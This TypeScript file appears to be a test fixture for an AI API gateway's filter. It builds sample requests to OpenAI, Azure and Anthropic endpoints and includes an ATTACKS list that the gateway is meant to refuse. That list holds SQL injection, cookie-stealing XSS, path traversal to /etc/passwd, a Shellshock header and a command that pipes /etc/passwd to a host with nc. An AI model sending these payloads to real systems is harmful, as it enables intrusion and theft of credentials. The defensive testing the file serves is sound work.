/** A request as a client sends it to the gateway. */
export interface Sample {
  readonly name: string;
  readonly method: string;
  /** Path and query string. */
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | undefined;
}

const DEPLOYMENT = "/openai/deployments/chat";
const VERSION = "api-version=2024-10-21";
/** As OpenAI's packages send them. */
const CLIENT = {
  accept: "application/json",
  authorization:
    "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL2NvZ25pdGl2ZXNlcnZpY2VzLmF6dXJlLmNvbSJ9.c2ln",
  "user-agent": "OpenAI/JS 6.49.0",
  "x-stainless-lang": "js",
  "x-stainless-runtime-version": "v22.0.0",
};

export function json(name: string, url: string, body: unknown): Sample {
  const headers = { ...CLIENT, "content-type": "application/json" };
  return { name, method: "POST", url, headers, body: JSON.stringify(body) };
}

const user = (content: unknown) => ({ role: "user", content });
const tool = (description: string) => ({
  type: "function",
  function: {
    name: "run_query",
    description,
    parameters: {
      type: "object",
      properties: { query: { type: "string", description, enum: [description], $ref: "#/$defs/query" } },
      required: ["query"],
      $defs: { query: { type: "string", pattern: "^(SELECT|select) .+;$", default: description } },
      additionalProperties: false,
    },
  },
});

/** Every place of every operation where a text of the caller's is sent. */
export function withPrompt(text: string): Sample[] {
  const call = { id: "call_1", type: "function", function: { name: "sh", arguments: JSON.stringify({ cmd: text }) } };
  const chat = (name: string, body: object) =>
    json(`chat: ${name}`, `${DEPLOYMENT}/chat/completions?${VERSION}`, { stream: true, ...body });
  const response = (name: string, body: object) =>
    json(`responses: ${name}`, "/openai/v1/responses", { model: "gpt-5-mini", store: false, ...body });
  return [
    chat("a message", { messages: [{ role: "system", content: text }, user(text)] }),
    chat("parts of a message", { messages: [user([{ type: "text", text }])] }),
    chat("a tool's turn", {
      messages: [
        user("Hi"),
        { role: "assistant", tool_calls: [call] },
        { role: "tool", tool_call_id: "call_1", content: text },
      ],
    }),
    chat("a tool", { messages: [user("Hi")], tools: [tool(text)], tool_choice: "auto" }),
    chat("a schema", {
      messages: [user("Hi")],
      response_format: { type: "json_schema", json_schema: { name: "x", schema: tool(text).function.parameters } },
    }),
    chat("a prediction and stop sequences", {
      messages: [user("Hi")],
      prediction: { type: "content", content: text },
      stop: [text.slice(0, 20)],
      metadata: { task: text },
    }),
    response("input", { input: text, instructions: text }),
    response("items", {
      input: [
        { role: "user", content: [{ type: "input_text", text }] },
        { type: "function_call", call_id: "c", name: "sh", arguments: JSON.stringify({ cmd: text }) },
        { type: "function_call_output", call_id: "c", output: text },
        {
          type: "reasoning",
          id: "rs_1",
          summary: [{ type: "summary_text", text }],
          encrypted_content: "gAAAAABn+/a==",
        },
      ],
      tools: [{ type: "function", ...tool(text).function }],
      text: { format: { type: "json_schema", name: "x", schema: tool(text).function.parameters } },
    }),
    json("embeddings", `${DEPLOYMENT}/embeddings?${VERSION}`, { input: [text, text] }),
    json("completions", `${DEPLOYMENT}/completions?${VERSION}`, { prompt: text, suffix: text, max_tokens: 5 }),
    json("images", "/openai/v1/images/generations", { model: "gpt-image-1", prompt: text, size: "1024x1024" }),
    json("speech", `${DEPLOYMENT}/audio/speech?${VERSION}`, { input: text, voice: "alloy", instructions: text }),
    json("assistants", `/openai/threads/t_1/messages?${VERSION}`, { role: "user", content: text }),
    json("anthropic", "/anthropic/v1/messages", {
      model: "claude",
      max_tokens: 9,
      system: text,
      messages: [user(text)],
    }),
    json("inference", "/models/chat/completions?api-version=2024-05-01-preview", {
      model: "x",
      messages: [user(text)],
    }),
    form("transcription", `${DEPLOYMENT}/audio/transcriptions?${VERSION}`, text),
  ];
}

/** A form with a file, as for audio and batches. */
function form(name: string, url: string, prompt: string): Sample {
  const boundary = "----formdata-0123456789abcdef";
  const part = (disposition: string, content: string) =>
    `--${boundary}\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n`;
  const body = [
    part('name="prompt"', prompt),
    part('name="file"; filename="speech.wav"\r\nContent-Type: audio/wav', "RIFF....WAVE"),
    `--${boundary}--\r\n`,
  ].join("");
  return {
    name,
    method: "POST",
    url,
    headers: { ...CLIENT, "content-type": `multipart/form-data; boundary=${boundary}` },
    body,
  };
}

/** Requests without a prompt that every client sends now and then. */
export const ORDINARY: readonly Sample[] = [
  { name: "models", method: "GET", url: "/openai/v1/models", headers: CLIENT, body: undefined },
  { name: "a response", method: "GET", url: "/openai/v1/responses/resp_0a1b2c", headers: CLIENT, body: undefined },
  { name: "delete", method: "DELETE", url: "/openai/v1/files/file-abc123", headers: CLIENT, body: undefined },
  json("an image", `${DEPLOYMENT}/chat/completions?${VERSION}`, {
    messages: [
      user([{ type: "image_url", image_url: { url: `data:image/png;base64,${"iVBORw0KGgo+/AAA".repeat(200)}` } }]),
    ],
  }),
  json("an image's address", `${DEPLOYMENT}/chat/completions?${VERSION}`, {
    messages: [user([{ type: "image_url", image_url: { url: "https://images.example.com/a.png?size=1&sig=a%2Fb" } }])],
  }),
  json("ids", "/openai/v1/responses", {
    model: "gpt-5-mini",
    input: "Hi",
    previous_response_id: "resp_68a0b1c2d3e4",
    prompt_cache_key: "tenant-1/user-2",
    safety_identifier: "b64:YWJj==",
    include: ["reasoning.encrypted_content"],
    reasoning: { effort: "low" },
    temperature: 0.2,
    logit_bias: { "50256": -100 },
  }),
];

const get = (name: string, url: string, headers: Record<string, string> = {}): Sample => ({
  name,
  method: "GET",
  url,
  headers: { ...CLIENT, ...headers },
  body: undefined,
});

/** Attacks where no prompt is: each has to be refused. */
export const ATTACKS: readonly Sample[] = [
  get(
    "SQL in the query string",
    "/openai/v1/models?after=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
  ),
  get("a script in the query string", "/openai/v1/models?after=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
  get("a file in the query string", "/openai/v1/files?purpose=../../../../etc/passwd"),
  get("a command in the query string", "/openai/v1/models?limit=1;cat%20/etc/passwd"),
  get("a file in the path", "/openai/v1/files/..%2f..%2f..%2fetc%2fpasswd"),
  get("a hidden file", "/.git/config"),
  get("SQL in a header", "/openai/v1/models", { referer: "' OR 1=1; DROP TABLE users; --" }),
  get("a shell in a header", "/openai/v1/models", { "user-agent": "() { :; }; /bin/bash -c 'id'" }),
  get("a scanner", "/openai/v1/models", { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" }),
  get("SQL in a cookie", "/openai/v1/models", { cookie: "session=1' UNION SELECT 1,2,3 FROM users-- " }),
  json("SQL in a field that holds no prompt", `${DEPLOYMENT}/embeddings?${VERSION}`, {
    input: "Hi",
    user: "x' UNION SELECT password FROM users WHERE '1'='1",
  }),
  json("a script in a field's name", `${DEPLOYMENT}/embeddings?${VERSION}`, {
    input: "Hi",
    "<script>alert(document.cookie)</script>": "x",
  }),
  json("a command in the model's name", "/openai/v1/responses", {
    input: "Hi",
    model: "x; cat /etc/passwd | nc 10.0.0.1 80",
  }),
];
